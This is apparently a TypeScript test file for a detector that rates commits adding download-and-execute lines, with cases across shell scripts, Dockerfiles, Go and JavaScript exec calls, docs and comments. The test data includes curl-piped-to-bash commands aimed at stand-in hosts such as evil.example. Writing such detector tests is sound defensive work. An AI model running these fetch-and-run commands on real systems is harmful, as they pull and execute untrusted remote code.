import detector from "../../../../src/engine/detectors/content/download-and-execute.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";

const SH = ["| ba", "sh"].join("");
const fetched = (host: string) => `curl -sSL https://${host}/x ${SH}`;
const change = (path: string, added: string, hosts: readonly string[] = []) =>
  aCommit({ files: [aFile({ path, added, at: 5 })], baseline: { repository: { hosts } } });

test.each([
  ["a script, an unknown host", "run.sh", fetched("evil.example"), ["strong"]],
  ["a script, a well-known installer", "run.sh", fetched("sh.rustup.rs"), ["weak"]],
  ["a script, only unpacked", "run.sh", "curl -L https://evil.example/a.tgz | tar xz", []],
  ["stored, then run", "run.sh", "curl -o /tmp/x https://evil.example/x && chmod +x /tmp/x", ["strong"]],
  ["an image definition", "Dockerfile", `RUN ${fetched("evil.example")}`, ["medium"]],
  ["a program that starts it", "main.go", `exec.Command("sh", "-c", "${fetched("evil.example")}").Run()`, ["decisive"]],
  ["a program that starts a known installer", "a.js", `execSync("${fetched("bun.sh")}")`, ["weak"]],
  ["a program that prints it", "a.js", `const hint = "${fetched("evil.example")}";`, []],
  ["a script that prints it", "run.sh", `echo "${fetched("evil.example")}"`, []],
  ["a manual", "docs/install.md", fetched("evil.example"), []],
  ["a comment", "run.sh", `# ${fetched("evil.example")}`, []],
] as const)("%s", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});

test("a host that the repository already names counts as known", () => {
  expect(strengthsOf(detector, change("run.sh", fetched("tools.example"), ["tools.example"]))).toEqual(["weak"]);
});

test("a host that the policy names counts as known", () => {
  const commit = change("run.sh", fetched("tools.example"));
  expect(strengthsOf(detector, commit, { knownHosts: ["tools.example"] })).toEqual(["weak"]);
});

test("raw text put where the source lies, by a packaging script", () => {
  const added = [
    "execFileSync('curl', ['-o', join(outputDir, outputFile), url]);",
    "download(['https://raw.githubusercontent.com/someone/somewhere/tag/file.bk'], 'src/', 'main.ts');",
  ].join("\n");
  expect(strengthsOf(detector, change("scripts/package.ts", added))).toEqual(["strong"]);
});

test("one host counts once, however many files fetch from it", () => {
  const files = ["a.sh", "b.sh"].map((path) => aFile({ path, added: fetched("evil.example"), at: 5 }));
  expect(strengthsOf(detector, aCommit({ files }))).toEqual(["strong"]);
});
